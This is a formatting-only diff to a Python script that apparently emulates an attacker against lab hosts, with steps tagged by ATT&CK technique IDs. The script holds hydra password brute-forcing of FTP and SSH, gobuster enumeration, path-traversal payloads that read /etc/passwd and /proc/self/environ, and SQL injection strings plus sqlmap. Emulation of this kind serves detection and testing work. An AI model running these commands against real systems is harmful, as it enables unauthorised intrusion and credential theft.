@@ -26,7 +26,9 @@ class Tools:
 
     def get(self, step: str, technique: str, path: str) -> str:
         time.sleep(0.6)
-        return self.run(step, technique, "web01", "curl", "-s", "--max-time", "20", "--path-as-is", f"http://{WEB}{path}")
+        return self.run(
+            step, technique, "web01", "curl", "-s", "--max-time", "20", "--path-as-is", f"http://{WEB}{path}"
+        )
 
 
 def scan(tools: Tools) -> None:
@@ -46,7 +48,20 @@ def scan(tools: Tools) -> None:
         WEB,
         TRAP,
     )
-    tools.run("honeypot probing", "T1110.001", "trap01", "hydra", "-I", "-l", "admin", "-P", "/root/few.txt", "-t", "2", f"ftp://{TRAP}")
+    tools.run(
+        "honeypot probing",
+        "T1110.001",
+        "trap01",
+        "hydra",
+        "-I",
+        "-l",
+        "admin",
+        "-P",
+        "/root/few.txt",
+        "-t",
+        "2",
+        f"ftp://{TRAP}",
+    )
     for password in ("admin", "nas"):
         tools.run(
             "honeypot probing",
@@ -63,7 +78,20 @@ def scan(tools: Tools) -> None:
 
 
 def probe_web(tools: Tools) -> None:
-    tools.run("path enumeration", "T1595.003", "web01", "gobuster", "dir", "-q", "-t", "4", "-u", f"http://{WEB}", "-w", "/root/paths.txt")
+    tools.run(
+        "path enumeration",
+        "T1595.003",
+        "web01",
+        "gobuster",
+        "dir",
+        "-q",
+        "-t",
+        "4",
+        "-u",
+        f"http://{WEB}",
+        "-w",
+        "/root/paths.txt",
+    )
     for name in (
         "../../../../etc/passwd",
         "..%2f..%2f..%2f..%2fetc%2fpasswd",
@@ -72,7 +100,13 @@ def probe_web(tools: Tools) -> None:
         "../../../../../proc/self/environ",
     ):
         tools.get("path traversal", "T1190", f"/download.php?file={name}")
-    for number in ("1'", "1%20AND%201=1", "1%20AND%201=2", "1%20ORDER%20BY%203--", "0%20UNION%20SELECT%201,2,sqlite_version()--"):
+    for number in (
+        "1'",
+        "1%20AND%201=1",
+        "1%20AND%201=2",
+        "1%20ORDER%20BY%203--",
+        "0%20UNION%20SELECT%201,2,sqlite_version()--",
+    ):
         tools.get("SQL injection by hand", "T1190", f"/book.php?id={number}")
     tools.run(
         "SQL injection by sqlmap",
@@ -100,7 +134,18 @@ def inject_commands(tools: Tools) -> None:
 def guess_passwords(tools: Tools) -> bool:
     """Tries user names with one password, then one user with a list; True when the list held the password."""
     tools.run(
-        "user enumeration", "T1110.003", "web01", "hydra", "-I", "-L", "/root/users.txt", "-p", "Harbour2026", "-t", "4", f"ssh://{WEB}"
+        "user enumeration",
+        "T1110.003",
+        "web01",
+        "hydra",
+        "-I",
+        "-L",
+        "/root/users.txt",
+        "-p",
+        "Harbour2026",
+        "-t",
+        "4",
+        f"ssh://{WEB}",
     )
     told = tools.run(
         "password guessing",
